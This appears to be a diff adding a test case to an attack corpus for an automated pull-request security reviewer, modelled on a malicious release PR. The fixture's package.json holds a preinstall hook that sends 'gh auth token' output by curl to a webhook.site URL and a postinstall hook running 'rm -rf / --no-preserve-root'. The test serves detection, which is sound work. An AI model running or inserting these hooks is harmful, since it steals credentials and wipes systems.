@@ -3807,4 +3807,22 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
   },
+  {
+    id: 'attack-install-script-token-to-webhook-and-wiper',
+    description: 'Toptal picasso (July 2025): a release PR whose package.json gains a preinstall that posts `gh auth token` to webhook.site and a postinstall that runs `rm -rf / --no-preserve-root`.',
+    fixture: () =>
+      attackPr({
+        repo: 'picasso',
+        number: 7142,
+        title: 'chore: release 52.1.0',
+        files: [
+          {
+            path: 'packages/picasso/package.json',
+            base: `${JSON.stringify({ name: '@acme/picasso', version: '52.0.0', scripts: { build: 'tsc -p tsconfig.build.json' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ name: '@acme/picasso', version: '52.1.0', scripts: { build: 'tsc -p tsconfig.build.json', preinstall: 'curl -s -d "$(gh auth token)" https://webhook.site/0b7c4f1e-3f0a-4d8e-9b1a-5d2f6c7e8a90', postinstall: 'rm -rf / --no-preserve-root' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['npm-install-script'] },
+  },
 ];
